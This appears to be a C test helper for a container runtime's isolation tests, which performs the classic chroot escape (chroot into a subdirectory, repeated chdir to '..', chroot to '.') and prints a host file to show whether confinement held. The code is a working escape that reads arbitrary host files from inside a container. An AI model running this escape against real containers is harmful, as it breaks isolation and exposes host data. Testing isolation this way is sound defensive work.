/* The classic chroot escape (known since chroot's early days; the reason pivot_root exists),
 * run as root inside a container by tests/containers/isolation_test.cpp:
 *
 *   mkdir x; chroot x        now "/" is x, but the working directory is still outside it
 *   chdir .. (many times)    ".." is only stopped at the process's root, which we left behind
 *   chroot .                 the real root of the mount namespace becomes "/"
 *
 * Then it prints the file named in argv[1] as the escaped process sees it. Exit status 0: the
 * file was read (escaped); 1: it was not there (still confined); 2: a step failed.
 * Static, so it runs in any root file system. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char** argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: chroot_escape HOST-FILE\n");
        return 2;
    }
    if (mkdir("/vlab-escape", 0700) != 0 && errno != EEXIST) {
        perror("mkdir /vlab-escape");
        return 2;
    }
    if (chroot("/vlab-escape") != 0) {
        perror("chroot /vlab-escape");
        return 2;
    }
    for (int i = 0; i < 64; ++i)
        if (chdir("..") != 0) break;
    if (chroot(".") != 0) {
        perror("chroot .");
        return 2;
    }
    FILE* file = fopen(argv[1], "r");
    if (!file) {
        printf("confined: %s: %s\n", argv[1], strerror(errno));
        return 1;
    }
    char line[256];
    while (fgets(line, sizeof line, file)) fputs(line, stdout);
    fclose(file);
    return 0;
}
